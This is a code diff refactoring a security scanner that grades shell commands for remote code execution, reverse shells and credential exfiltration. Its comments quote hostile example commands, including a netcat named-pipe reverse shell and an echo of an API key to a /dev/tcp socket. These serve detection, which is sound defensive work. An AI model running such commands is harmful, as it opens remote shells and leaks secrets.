@@ -49,12 +49,8 @@ from .. import hosts as H
 from ..matching import rx
 from ..models import Severity
 from . import common as c
+from . import fact_kinds as K
 from .shell_base import _CRED_COMMAND, _CRED_COMMAND_VENDOR, credential_command_goes_home  # noqa: F401  (public here too)
-
-REMOTE_EXEC = c.REMOTE_EXEC
-DECODE_EXEC = c.DECODE_EXEC
-REVERSE_SHELL = c.REVERSE_SHELL
-CRED_EXFIL = c.CRED_EXFIL
 
 MAX_COMMAND = 8000  # characters of one command line read (a longer one is read up to this)
 
@@ -400,7 +396,7 @@ class _Grader:
             eol = self.data.find(b"\n", m.end())
             url = _first_url(self.text(m)) or _first_url(self.data[m.start():len(self.data) if eol < 0 else eol].decode("utf-8", "replace"))
         sev, grade, host = self.url_grade(url)
-        self.add(REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
+        self.add(K.REMOTE_EXEC, m.start() if b0 is None else b0, m.end() if b1 is None else b1,
                  f"{message} ({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
 
     def run(self) -> None:
@@ -444,7 +440,7 @@ class _Grader:
         for m in _PIPE_URL.finditer(d):
             interp = self.text(m, 2).lower()
             at = self.pos(m.end(1))
-            if any(f.kind == REMOTE_EXEC and f.start <= at <= f.end for f in self.facts):
+            if any(f.kind == K.REMOTE_EXEC and f.start <= at <= f.end for f in self.facts):
                 continue  # the fetch itself was seen (`curl URL | sh`): that finding names it
             if self._reads_stdin_program(interp, self.text(m, 3).split()):
                 word = (self.text(m, 1).split() or [""])[0]
@@ -469,16 +465,16 @@ class _Grader:
             if fetch and run:
                 self.remote(m, f"{lang} one-liner fetches code and evaluates it", url=_first_url(seg.decode("utf-8", "replace")), b1=end)
             elif decode and run:
-                self.add(DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
+                self.add(K.DECODE_EXEC, m.start(), end, f"{lang} one-liner decodes hidden code and evaluates it", Severity.CRITICAL)
             if _LANG_SEND[lang].search(seg) and _LANG_SECRETS[lang].search(seg):
                 url = _first_url(seg.decode("utf-8", "replace"))
                 _, grade, host = self.url_grade(url)
-                self.add(CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, m.start(), end, f"{lang} one-liner sends the environment or a credential file ({grade_words(grade)}{': ' + host if host else ''})",
                          Severity.CRITICAL, url, grade, host)
             elif self.unattended and not (fetch and run) and (fetch or _LANG_SEND[lang].search(seg)):
                 self.inline_send(m.start(), end, lang, seg)
             if sock.search(seg) and shell.search(seg):
-                self.add(REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, m.start(), end, f"{lang} one-liner wires a network socket to a shell", Severity.CRITICAL)
             self.fed_credentials(m.start(), end, lang, seg)
 
     def fed_credentials(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
@@ -508,7 +504,7 @@ class _Grader:
         host = H.host_of(url) if url else (peer.group(1).decode("utf-8", "replace").lower() if peer else "")
         if host and _private(host):
             return
-        self.add(CRED_EXFIL, stmt + 1 + src.start(), b1, f"A credential's output is fed to a {lang} one-liner that sends it over the network"
+        self.add(K.CRED_EXFIL, stmt + 1 + src.start(), b1, f"A credential's output is fed to a {lang} one-liner that sends it over the network"
                  f"{' (' + host + ')' if host else ''}", Severity.CRITICAL, url or (f"tcp://{host}" if host else ""), "", host)
 
     def runners(self) -> None:
@@ -552,7 +548,7 @@ class _Grader:
                     grade == "unknown" and host in ("github.com", "gitlab.com") and target.lower().startswith("git+"):
                 sev, grade = Severity.MEDIUM, "repository"  # a public repository's code, unpinned: reviewable, so medium
             ref = "git ref" if not target.lower().startswith(("http://", "https://")) else "URL"
-            self.add(REMOTE_EXEC, m.start(1), m.end(), f"{runner} runs code from a {ref} ({grade_words(grade)}{': ' + host if host else ''})",
+            self.add(K.REMOTE_EXEC, m.start(1), m.end(), f"{runner} runs code from a {ref} ({grade_words(grade)}{': ' + host if host else ''})",
                      sev, url, grade, host)
 
     def installs(self) -> None:
@@ -583,13 +579,13 @@ class _Grader:
                     sev, grade = Severity.LOW, "repository"  # `pip install git+https://github.com/org/repo`: a common, reviewable install
                 elif grade in ("vendor", "release"):
                     sev = Severity.LOW
-                self.add(REMOTE_EXEC, m.start(1), m.end(), f"{tool} installs a package from a {'URL' if low.startswith('http') else 'git ref'}, running its install scripts "
+                self.add(K.REMOTE_EXEC, m.start(1), m.end(), f"{tool} installs a package from a {'URL' if low.startswith('http') else 'git ref'}, running its install scripts "
                          f"({grade_words(grade)}{': ' + host if host else ''})", sev, url, grade, host)
                 break
 
     def decodes(self) -> None:
         for m in _DECODE.finditer(self.data):
-            self.add(DECODE_EXEC, m.start(), m.end(), "Encoded text decoded and run", Severity.CRITICAL)
+            self.add(K.DECODE_EXEC, m.start(), m.end(), "Encoded text decoded and run", Severity.CRITICAL)
             self.decoded_payload(m.start())
 
     def decoded_payload(self, b0: int) -> None:
@@ -616,7 +612,7 @@ class _Grader:
         d = self.data
         for m in _DEV_TCP.finditer(d):
             if _DEV_TCP_SHELL.search(d):
-                self.add(REVERSE_SHELL, 0, len(d), "Shell input or output wired to a /dev/tcp socket", Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, 0, len(d), "Shell input or output wired to a /dev/tcp socket", Severity.CRITICAL)
                 break
         for pattern, message in ((_NC_EXEC, "netcat hands a shell to a network peer"),
                                  (_PIPE_SHELL_NET, "A shell piped to or from a network connection"),
@@ -624,14 +620,14 @@ class _Grader:
                                  (_PS_REVERSE, "PowerShell runs commands read from a TCP socket"),
                                  (_AWK_INET, "awk runs commands read from a TCP socket")):
             for m in pattern.finditer(d):
-                self.add(REVERSE_SHELL, m.start(), m.end(), message, Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, m.start(), m.end(), message, Severity.CRITICAL)
         m = _FIFO.search(d)
         if m is not None and _SHELL_WORD.search(d):
             fifo = _FIFO_PATH.search(d)
             path = fifo.group(1) if fifo else b""
             # the pipe's own path is read from and written to: `sh -i < /tmp/f | nc h p > /tmp/f`
             if path and d.count(path) >= 3 and (b"< " + path in d or b"<" + path in d) and (b"> " + path in d or b">" + path in d):
-                self.add(REVERSE_SHELL, m.start(), m.end(), "A named pipe loops a shell through a network connection", Severity.CRITICAL)
+                self.add(K.REVERSE_SHELL, m.start(), m.end(), "A named pipe loops a shell through a network connection", Severity.CRITICAL)
 
     # -- credentials to the network ---------------------------------------------------------
     def credentials(self) -> None:
@@ -670,19 +666,19 @@ class _Grader:
                 if src[0] < s0 and what == "http" and src[2] == "a credential command" and _HEADER_FLAG.search(seg.encode()) \
                         and not _DATA_FLAG.search(seg.encode()) and "$" not in url and not self._piped_between(src[1], s0):
                     # TOKEN=$(gh auth token); curl -H "Authorization: token $TOKEN" https://ghe.corp/api: authentication
-                    self.add(CRED_EXFIL, s0, s1, f"A credential command's token is sent in a header to {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                    self.add(K.CRED_EXFIL, s0, s1, f"A credential command's token is sent in a header to {what} ({grade_words(grade)}{': ' + host if host else ''})",
                              Severity.HIGH if grade in ("ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
                     continue
                 if s0 <= src[0] < s1 and what == "http" and _in_header(d, s0, src[0]) and not src[2].startswith("a credential file"):
                     if grade not in ("ip", "paste", "http"):
                         continue  # `-H "Authorization: Bearer $(gh auth token)"`: the token authenticates the request
                 sev = Severity.CRITICAL
-                self.add(CRED_EXFIL, min(src[0], s0), max(src[1], s1), f"{src[2].capitalize()} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, min(src[0], s0), max(src[1], s1), f"{src[2].capitalize()} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                          sev, url, grade, host)
                 continue
             dump = next(((a, b, w) for a, b, w in dumps if a < s0 or s0 <= a < s1), None)
             if dump is not None and what != "dns" or (dump is not None and dump[0] < s0):
-                self.add(CRED_EXFIL, min(dump[0], s0), max(dump[1], s1), f"The whole environment reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, min(dump[0], s0), max(dump[1], s1), f"The whole environment reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                          Severity.HIGH if grade not in ("ip", "paste", "http") else Severity.CRITICAL, url, grade, host)
                 continue
             if secrets:
@@ -694,13 +690,13 @@ class _Grader:
                 if what == "http" and not url:
                     continue
                 sev = Severity.HIGH if grade in ("ip", "paste", "http", "lookalike") or what in ("dns", "gist", "mail", "ftp", "socket") else Severity.MEDIUM
-                self.add(CRED_EXFIL, s0, s1, f"Secret variable {name} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
+                self.add(K.CRED_EXFIL, s0, s1, f"Secret variable {name} reaches {what} ({grade_words(grade)}{': ' + host if host else ''})",
                          sev, url, grade, host)
                 continue
             if public:
-                self.add(CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
+                self.add(K.CRED_EXFIL, s0, s1, "Files published as a public gist", Severity.MEDIUM)
             elif what == "http" and grade == "paste" and _DATA_FLAG.search(seg.encode()):
-                self.add(CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
+                self.add(K.CRED_EXFIL, s0, s1, f"Data uploaded to a paste or relay service ({host})", Severity.MEDIUM, url, grade, host)
 
     def dev_tcp_writes(self) -> None:
         """`echo $API_KEY > /dev/tcp/host/443`: bash opens the socket and writes the value to it."""
@@ -712,10 +708,10 @@ class _Grader:
                                  for g in _SECRET_VAR.finditer(m.group(1))) if c.is_secret_env_name(n)]
             source = _CRED_COMMAND.search(m.group(1)) is not None or _ENV_DUMP.search(m.group(1)) is not None
             if names or source:
-                self.add(CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
+                self.add(K.CRED_EXFIL, m.start(), m.end(), f"{names[0] if names else 'A credential'} is written to a raw socket ({host})",
                          Severity.CRITICAL, f"tcp://{host}", "ip" if H.is_ip(host) else "unknown", host)
             elif self.unattended:
-                self.add(c.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
+                self.add(K.HOST_DATA_EXFIL, m.start(), m.end(), f"Data is written to a raw socket ({host})", Severity.HIGH, f"tcp://{host}", "", host)
 
     def _piped_between(self, a: int, b: int) -> bool:
         """Is the source's output piped into the sink (a `|` between them, not `||`)?"""
@@ -744,7 +740,7 @@ class _Grader:
             host = H.host_of(url)
             if host and (H.is_ip(host) and not _private(host) or H.look_alike_brand(host)):
                 _, grade, host = self.url_grade(url)
-                self.add(REMOTE_EXEC, m.start(), m.end(), f"Packages installed from an index on {grade_words(grade)}: {host}", Severity.HIGH, url, grade, host)
+                self.add(K.REMOTE_EXEC, m.start(), m.end(), f"Packages installed from an index on {grade_words(grade)}: {host}", Severity.HIGH, url, grade, host)
 
     def inline_send(self, b0: int, b1: int, lang: str, seg: bytes) -> None:
         """Unattended: a one-liner that reaches a stranger's host with secrets (read broadly: any
@@ -757,10 +753,10 @@ class _Grader:
         if grade in ("vendor", "local"):
             return
         if _INLINE_SECRET.search(low) is not None:
-            self.add(CRED_EXFIL, b0, b1, f"{lang} one-liner reads credentials or the environment and sends them ({grade_words(grade)}: {host})",
+            self.add(K.CRED_EXFIL, b0, b1, f"{lang} one-liner reads credentials or the environment and sends them ({grade_words(grade)}: {host})",
                      Severity.CRITICAL, url, grade, host)
         elif _INLINE_SEND.search(low) is not None:
-            self.add(c.HOST_DATA_EXFIL, b0, b1, f"{lang} one-liner sends data ({grade_words(grade)}: {host})", Severity.HIGH, url, grade, host)
+            self.add(K.HOST_DATA_EXFIL, b0, b1, f"{lang} one-liner sends data ({grade_words(grade)}: {host})", Severity.HIGH, url, grade, host)
 
     def sends(self) -> None:
         """A request that carries the command's input, history, files or command output, or a
@@ -773,12 +769,12 @@ class _Grader:
             names = [n for n in (next((x for x in m.groups() if x), b"").decode("utf-8", "replace")
                                  for m in _SECRET_VAR.finditer(url.encode("utf-8", "surrogatepass"))) if c.is_secret_env_name(n)]
             names = [n for n in names if not H.credential_goes_home(n, url)]
-            if names and not self._covered((CRED_EXFIL,), Severity.HIGH):
+            if names and not self._covered((K.CRED_EXFIL,), Severity.HIGH):
                 sev, grade, host = self.url_grade(url)
                 if grade not in ("vendor", "local"):
-                    self.add(CRED_EXFIL, 0, len(d), f"Secret variable {names[0]} is spliced into a URL ({grade_words(grade)}: {host})",
+                    self.add(K.CRED_EXFIL, 0, len(d), f"Secret variable {names[0]} is spliced into a URL ({grade_words(grade)}: {host})",
                              Severity.CRITICAL if grade in ("ip", "paste", "http", "lookalike") else Severity.HIGH, url, grade, host)
-        if self._covered((CRED_EXFIL, REMOTE_EXEC, REVERSE_SHELL), Severity.HIGH):
+        if self._covered((K.CRED_EXFIL, K.REMOTE_EXEC, K.REVERSE_SHELL), Severity.HIGH):
             return
         for m in _SENDER.finditer(d):
             eol = len(d)
@@ -806,10 +802,10 @@ class _Grader:
             local = piped or in_url or _STDIN_DATA.search(seg) is not None or _LOCAL_DATA.search(d[:eol]) is not None
             if local:
                 sev = Severity.MEDIUM if _known_service(host) else Severity.HIGH
-                self.add(c.HOST_DATA_EXFIL, m.start(), eol, f"Sends local data (its input, history, files or command output) to {grade_words(grade)}: {host}",
+                self.add(K.HOST_DATA_EXFIL, m.start(), eol, f"Sends local data (its input, history, files or command output) to {grade_words(grade)}: {host}",
                          sev, url, grade, host)
             elif not _known_service(host):  # a request to a well-known service's own API is its ordinary use
-                self.add(c.HOST_DATA_EXFIL, m.start(), eol, f"Sends data over the network ({grade_words(grade)}: {host})",
+                self.add(K.HOST_DATA_EXFIL, m.start(), eol, f"Sends data over the network ({grade_words(grade)}: {host})",
                          Severity.HIGH if grade in ("lookalike", "ip", "paste", "http") else Severity.MEDIUM, url, grade, host)
             return
 
@@ -827,15 +823,15 @@ class _Grader:
         except (RecursionError, MemoryError, ValueError):
             return
         for f in found:
-            if f.kind not in (REMOTE_EXEC, DECODE_EXEC, REVERSE_SHELL, CRED_EXFIL):
+            if f.kind not in (K.REMOTE_EXEC, K.DECODE_EXEC, K.REVERSE_SHELL, K.CRED_EXFIL):
                 continue
-            if f.kind == CRED_EXFIL and f.severity <= Severity.LOW:
+            if f.kind == K.CRED_EXFIL and f.severity <= Severity.LOW:
                 continue
             if any(x.kind == f.kind and x.start < f.end and f.start < x.end for x in self.facts):
                 continue
             url = f.properties.get("url", "")
             sev, grade, host = f.severity, "", H.host_of(url) if url else ""
-            if f.kind == REMOTE_EXEC:
+            if f.kind == K.REMOTE_EXEC:
                 sev, grade, host = self.url_grade(url)
             self.facts.append(CommandFact(f.kind, sev, f.start, f.end, f.message, host, url, grade))
 
